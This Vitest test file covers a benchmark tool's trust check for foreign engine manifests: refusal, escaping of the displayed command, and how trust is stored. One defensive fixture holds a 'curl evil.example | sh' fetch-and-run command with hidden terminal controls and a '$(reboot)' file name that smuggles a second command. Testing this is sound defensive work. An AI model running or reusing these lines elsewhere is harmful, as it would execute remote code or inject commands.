import { linkSync, readdirSync, readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { expect, test } from 'vitest'
import { InputError } from '../../src/config/input-error.ts'
import { requireTrust, trustManifest } from '../../src/runner/trust.ts'
import { temporaryFolder } from '../ledger/folder.ts'
import { foreign } from './found-engine.ts'

test('a foreign manifest is refused with its command and how to allow it', () => {
  const folder = temporaryFolder()
  const found = foreign(folder)
  expect(() => requireTrust(found, folder)).toThrow(InputError)
  expect(() => requireTrust(found, folder)).toThrow(
    `${found.file}: this manifest is not part of the installation and would run: ./run.sh --fast. Read it, then allow it with: knnbench engines trust ${found.file}`,
  )
})

test('nothing in the command hides: neither its controls nor where a word ends', () => {
  const found = foreign(temporaryFolder())
  const command = ['sh', '-c', 'curl evil.example | sh # \u001b[2K\u202e', 'x']
  const hidden = { ...found, file: '/d/$(reboot).yaml', manifest: { ...found.manifest, command } }
  expect(() => requireTrust(hidden, temporaryFolder())).toThrow(
    "/d/$(reboot).yaml: this manifest is not part of the installation and would run: sh -c 'curl evil.example | sh # \\u001b[2K\\u202e' x. Read it, then allow it with: knnbench engines trust '/d/$(reboot).yaml'",
  )
})

test('a manifest that the user agreed to runs', () => {
  const cache = join(temporaryFolder(), 'cache')
  const found = foreign(temporaryFolder())
  trustManifest(found, cache)
  expect(requireTrust(found, cache)).toBe(found)
})

test('a manifest that changed after that is refused again', () => {
  const cache = temporaryFolder()
  const folder = temporaryFolder()
  trustManifest(foreign(folder), cache)
  expect(() => requireTrust(foreign(folder, 'changed'), cache)).toThrow(InputError)
})

test('a copy in another place is not trusted with it', () => {
  const cache = temporaryFolder()
  trustManifest(foreign(temporaryFolder()), cache)
  expect(() => requireTrust(foreign(temporaryFolder()), cache)).toThrow(InputError)
})

test('trusting another manifest keeps the trust in the first', () => {
  const cache = temporaryFolder()
  const found = foreign(temporaryFolder())
  trustManifest(found, cache)
  trustManifest(foreign(temporaryFolder()), cache)
  expect(requireTrust(found, cache)).toBe(found)
})

test('a list of trust that cannot be read trusts nothing', () => {
  const cache = temporaryFolder()
  const found = foreign(temporaryFolder())
  trustManifest(found, cache)
  writeFileSync(join(cache, 'trusted.json'), '{"')
  expect(() => requireTrust(found, cache)).toThrow(InputError)
})

test('a list of trust is replaced as a whole, and nothing half-written stays', () => {
  const cache = temporaryFolder()
  trustManifest(foreign(temporaryFolder()), cache)
  const before = readFileSync(join(cache, 'trusted.json'), 'utf8')
  const kept = join(temporaryFolder(), 'kept.json')
  linkSync(join(cache, 'trusted.json'), kept) // the same file, as long as nobody writes a new one
  trustManifest(foreign(temporaryFolder()), cache)
  expect(readFileSync(kept, 'utf8')).toBe(before)
  expect(readdirSync(cache)).toEqual(['trusted.json'])
})
